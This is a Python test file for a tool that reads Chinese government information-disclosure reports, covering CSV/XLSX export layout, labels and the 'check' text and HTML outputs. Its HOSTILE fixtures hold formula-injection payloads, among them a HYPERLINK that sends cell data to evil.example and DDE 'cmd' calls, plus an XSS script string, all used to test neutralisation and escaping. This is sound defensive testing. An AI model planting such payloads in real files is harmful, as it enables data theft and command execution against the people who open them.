"""CSV, XLSX and `check` outputs on real corpus reports (issue 11, items 1, 12, 15 and 27):
the contributions `sum` sheet on one row; Chinese labels with the keys, a bold frozen filtered
header, fitted widths and a one-page-wide print set-up; `brief`; formula injection neutralised
with numbers kept numbers; the `check` headline, 不适用 lines only when verbose, and the HTML
page's coloured counts and sortable tables."""

from __future__ import annotations

import copy
import csv
import io
import re
import shutil
import subprocess
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from corpus_util import local_raw
from openpyxl import load_workbook
from selectolax.lexbor import LexborHTMLParser

import gongkai
from gongkai.batch import Outcome
from gongkai.checks import check, findings_html, findings_text
from gongkai.output import META_COLUMNS, cell_label, neutralise, set_literal, to_csv, to_xlsx
from gongkai.report import Report, Value
from gongkai.summary import Summary, summarize, write_contributions

AGENCY = "测试市人民政府"
HOSTILE = {
    "agency": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "path": "@SUM(1+1)*cmd|' /C calc'!A0.pdf",
    "warning": "+cmd|' /C notepad'!A0",
    "text": "-2+3+cmd|' /C calc'!A0",
}
NEW_TOTAL = "requests.new.total"


@cache
def _read(case: str) -> Report:
    return gongkai.read(local_raw(case))


def read(case: str) -> Report:
    return copy.deepcopy(_read(case))


def outcomes(*cases: str) -> list[Outcome]:
    return [Outcome(str(local_raw(c)), read(c)) for c in cases]


@pytest.fixture(scope="module")
def summary_2024() -> Summary:
    return summarize([read("p002"), read("p003")], AGENCY, 2024)


def hostile_outcome() -> Outcome:
    """s000 (a real 2021 report) with hostile text in every text field and a negative cell."""
    rep = read("s000")
    rep.agency = HOSTILE["agency"]
    rep.warnings = [HOSTILE["warning"]]
    rep.requests["new"][0] = Value(HOSTILE["text"], HOSTILE["text"])
    rep.requests["new"][1] = Value(-3, "-3")
    rep.requests["new"][2] = Value("-5", "-5")  # a negative number kept as text
    return Outcome(HOSTILE["path"], rep)


def _csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


# -- item 1: the sum sheet -------------------------------------------------------------------


def test_sum_sheet_has_the_label_and_the_totals_on_one_row(
    summary_2024: Summary, tmp_path: Path
) -> None:
    wb = load_workbook(write_contributions(summary_2024, tmp_path / "c.xlsx"))
    ws = wb["sum"]
    assert ws.max_row == 2
    header = [c.value for c in ws[1]]
    row = {k: c.value for k, c in zip(header, ws[2], strict=True)}
    assert (row["agency"], row["year"], row["template"]) == (AGENCY, 2024, "2021")
    assert row["bodies"] == len(summary_2024.included) == 2
    assert row[NEW_TOTAL] == summary_2024.report.request("new", 6)
    assert row[NEW_TOTAL] == read("p002").request("new", 6) + read("p003").request("new", 6)
    labelled = load_workbook(write_contributions(summary_2024, tmp_path / "l.xlsx", labels=True))
    ws = labelled["sum"]
    assert ws.max_row == 3 and ws["A2"].value == "机关名称" and ws["A3"].value == AGENCY


# -- item 15: labels, header, widths, print, brief -------------------------------------------


def test_xlsx_header_is_bold_frozen_filtered_fitted_and_prints_one_page_wide() -> None:
    wb = load_workbook(io.BytesIO(to_xlsx(outcomes("s000", "d001", "p003"))))
    ws = wb.active
    assert ws.title == "reports" and ws.max_row == 4
    header = [c.value for c in ws[1]]
    assert header[:6] == list(META_COLUMNS)
    assert all(c.font.b for c in ws[1]) and not ws["A2"].font.b
    assert ws.freeze_panes == "E2"  # header and file, agency, year, template stay in view
    assert re.fullmatch(r"A1:[A-Z]+4", ws.auto_filter.ref)
    widths = [ws.column_dimensions[c.column_letter].width for c in ws[1]]
    assert all(6 <= w <= 42 for w in widths)
    agency_col = ws.column_dimensions["B"].width
    assert agency_col > ws.column_dimensions["C"].width  # a long Chinese name gets room
    assert ws.page_setup.orientation == "landscape"
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$1:$1"  # the header repeats on every printed page
    new_total = ws.cell(1, header.index(NEW_TOTAL) + 1)
    assert new_total.comment is not None
    assert new_total.comment.text == "一、本年新收政府信息公开申请数量·总计"
    names = {r[0].value: r[1].value for r in wb["字段说明"].iter_rows(min_row=2)}
    assert names["agency"] == "机关名称" and names[NEW_TOTAL] == new_total.comment.text
    assert names["review_litigation.review_upheld"] == "行政复议·结果维持"
    assert names["active.regulations.issued"] == "规章·本年制发件数"


def test_label_row_sits_under_the_keys_in_csv_and_xlsx() -> None:
    outs = outcomes("s000", "s002")
    rows = _csv_rows(to_csv(outs, labels=True))
    assert rows[0][:6] == list(META_COLUMNS)
    assert rows[1][:6] == ["文件", "机关名称", "年度", "表格格式", "读取提示", "无法读取的原因"]
    assert rows[1][rows[0].index(NEW_TOTAL)] == cell_label(NEW_TOTAL)
    assert rows[1][rows[0].index("legacy.五、行政诉讼数量")] == "五、行政诉讼数量"
    assert len(rows) == 4 and rows[2][1] == "北京市西城区人力资源和社会保障局"
    assert len(_csv_rows(to_csv(outs))) == 3  # without labels: one header row
    ws = load_workbook(io.BytesIO(to_xlsx(outs, labels=True))).active
    assert [ws["A1"].value, ws["A2"].value] == ["file", "文件"] and ws["A2"].font.b
    assert ws.freeze_panes == "E3" and ws.auto_filter.ref.startswith("A2:")
    assert ws.print_title_rows == "$1:$2"


def test_brief_leaves_out_the_reading_notes(summary_2024: Summary, tmp_path: Path) -> None:
    outs = outcomes("p001")
    full, brief = _csv_rows(to_csv(outs))[0], _csv_rows(to_csv(outs, brief=True))[0]
    assert "warnings" in full and "warnings" not in brief
    assert [h for h in full if h != "warnings"] == brief
    ws = load_workbook(io.BytesIO(to_xlsx(outs, brief=True))).active
    assert "warnings" not in [c.value for c in ws[1]]
    path = write_contributions(summary_2024, tmp_path / "b.csv", brief=True)
    header = _csv_rows(path.read_text(encoding="utf-8"))[0]
    assert "codes" not in header and "text_cells" not in header and "errors" in header


# -- item 27: formula injection --------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),
        ("-0.5", "-0.5"),
        ("-", "-"),
        ("洪泽区人民政府", "洪泽区人民政府"),
        (-3, -3),
        (1.5, 1.5),
        (None, None),
    ],
)
def test_neutralise(value: Any, expected: Any) -> None:
    assert neutralise(value) == expected


def test_csv_cells_that_would_be_formulas_are_neutralised() -> None:
    rows = _csv_rows(to_csv([hostile_outcome(), *outcomes("d001")]))
    header, row = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert row["file"] == "'" + HOSTILE["path"]
    assert row["agency"] == "'" + HOSTILE["agency"]
    assert row["warnings"] == "'" + HOSTILE["warning"]
    assert row["requests.new.natural_person"] == "'" + HOSTILE["text"]
    assert row["requests.new.commercial_enterprise"] == "-3"
    assert row["requests.new.research_institution"] == "-5"
    assert all(not c.startswith(("=", "+", "@")) for r in rows for c in r)
    assert rows[2][header.index("agency")] == "沭阳县发展和改革局"


def test_xlsx_holds_no_formula_and_keeps_numbers_numbers() -> None:
    hostile = hostile_outcome()
    assert hostile.report is not None
    hostile.report.warnings.append("控制字符\x01\x1b在此")
    wb = load_workbook(io.BytesIO(to_xlsx([hostile, *outcomes("d001")])))
    cells = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    ws = wb.active
    header = [c.value for c in ws[1]]
    row = {k: c.value for k, c in zip(header, ws[2], strict=True)}
    assert row["agency"] == "'" + HOSTILE["agency"] and row["file"] == "'" + HOSTILE["path"]
    assert row["requests.new.natural_person"] == "'" + HOSTILE["text"]
    assert row["requests.new.commercial_enterprise"] == -3  # a number, not text
    assert row["requests.new.total"] == read("s000").request("new", 6)
    assert "\x01" not in row["warnings"] and "控制字符" in row["warnings"]


def test_contributions_neutralise_agency_and_file_names(tmp_path: Path) -> None:
    a, b = read("p002"), read("p003")
    a.agency, a.path = HOSTILE["agency"], HOSTILE["path"]
    summary = summarize([a, b], "=" + AGENCY, 2024)
    rows = _csv_rows(write_contributions(summary, tmp_path / "c.csv").read_text(encoding="utf-8"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["file"], row["agency"]) == ("'" + HOSTILE["path"], "'" + HOSTILE["agency"])
    wb = load_workbook(write_contributions(summary, tmp_path / "c.xlsx"))
    assert not [c for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.data_type == "f"]
    assert wb["sum"]["A2"].value == "'=" + AGENCY
    assert wb["contributions"]["B2"].value == "'" + HOSTILE["agency"]


def test_set_literal_stores_formula_like_text_as_text_that_reads_back() -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    set_literal(ws["A1"], HOSTILE["agency"])
    set_literal(ws["A2"], -3)
    buf = io.BytesIO()
    wb.save(buf)
    back = load_workbook(io.BytesIO(buf.getvalue())).active
    assert back["A1"].data_type == "s" and back["A1"].quotePrefix
    assert back["A1"].value == HOSTILE["agency"]  # unchanged: an authoring workbook reads back
    assert back["A2"].value == -3 and back["A2"].data_type == "n"


# -- item 12: check output -------------------------------------------------------------------


def _batch() -> list[tuple[Report, Any]]:
    return [(r, check(r)) for r in (read("p001"), read("s000"), read("s002"))]


def test_check_text_has_a_headline_and_hides_not_applicable_unless_verbose() -> None:
    text = findings_text(_batch(), [("broken.pdf", "不是PDF文件")])
    assert text.splitlines()[0] == "3 份报告，1 份有错误，2 份有警告，1 个文件无法读取"
    assert "不适用" not in text.replace("条规则不适用", "")
    hidden = int(re.search(r"另有(\d+)条规则不适用，未列出（加 -v 显示）", text)[1])  # type: ignore[index]
    verbose = findings_text(_batch(), verbose=True)
    shown = [ln for ln in verbose.splitlines() if ln.startswith("  不适用（")]
    assert hidden == sum(len(ln.split("：", 1)[1].split("、")) for ln in shown) > 0
    assert "另有" not in verbose
    plain = findings_text(_batch())  # the same lines, less the 不适用 lines, plus the hint
    assert len(verbose.splitlines()) == len(plain.splitlines()) + len(shown) - 1
    assert text.splitlines()[-1] == verbose.splitlines()[-1] + "，1个文件无法读取"


def test_check_html_colours_counts_sorts_tables_and_escapes_report_text() -> None:
    batch = _batch()
    batch[1][0].agency = '<script>alert("x")</script>机关'
    page = findings_html(batch, [("a<b>.pdf", "无法读取")])
    tree = LexborHTMLParser(page)
    assert tree.css_first("p.headline").text() == (
        "3 份报告，1 份有错误，2 份有警告，1 个文件无法读取"
    )
    rows = tree.css("table.summary tbody tr")
    assert "error" in (rows[0].css("td")[3].attributes.get("class") or "").split()
    assert "error" not in (rows[1].css("td")[3].attributes.get("class") or "").split()
    assert "warning" in (rows[2].css("td")[4].attributes.get("class") or "").split()
    assert "td.count.error{" in page and "td.count.warning{" in page
    assert tree.css("table.summary.sortable") and tree.css("table.grid.sortable")
    assert page.count("<script") == 1 and "src=" not in page  # only our inline script
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;机关" in page


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
def test_check_html_sort_script_is_valid_javascript_and_sorts(tmp_path: Path) -> None:
    page = findings_html(_batch())
    script = page.split("<script>")[1].split("</script>")[0]
    # A minimal DOM: one table of three rows, sorted by the numeric column, then reversed.
    harness = (
        """
function el(tag, text) { return {tag: tag, text: text || "", children: [], attrs: {},
  get textContent() { return this.text; }, setAttribute(k, v) { this.attrs[k] = v; },
  getAttribute(k) { return k in this.attrs ? this.attrs[k] : null; },
  removeAttribute(k) { delete this.attrs[k]; }, addEventListener(t, f) { this["on" + t] = f; }}; }
var ths = [el("th", "机关"), el("th", "错误")];
var head = {children: ths}; ths.forEach(function (t) { t.parentNode = head; });
var rows = [["乙", "10"], ["甲", "2"], ["丙", "-1"]].map(function (r) {
  return {cells: r.map(function (t) { return el("td", t); })}; });
var body = {rows: rows.slice(), appendChild(r) {
  this.rows.splice(this.rows.indexOf(r), 1); this.rows.push(r); }};
var table = {tBodies: [body], querySelectorAll() { return ths; }};
ths.forEach(function (t) { t.closest = function () { return table; }; });
var document = {querySelectorAll() { return ths; }};
"""
        + script
        + """
ths[1].onclick();
console.log(body.rows.map(function (r) { return r.cells[0].text; }).join(""));
ths[1].onclick();
console.log(body.rows.map(function (r) { return r.cells[0].text; }).join(""));
"""
    )
    js = tmp_path / "sort.js"
    js.write_text(harness, encoding="utf-8")
    out = subprocess.run(["node", str(js)], capture_output=True, text=True, timeout=30)
    assert out.returncode == 0, out.stderr
    assert out.stdout.split() == ["丙甲乙", "乙甲丙"]
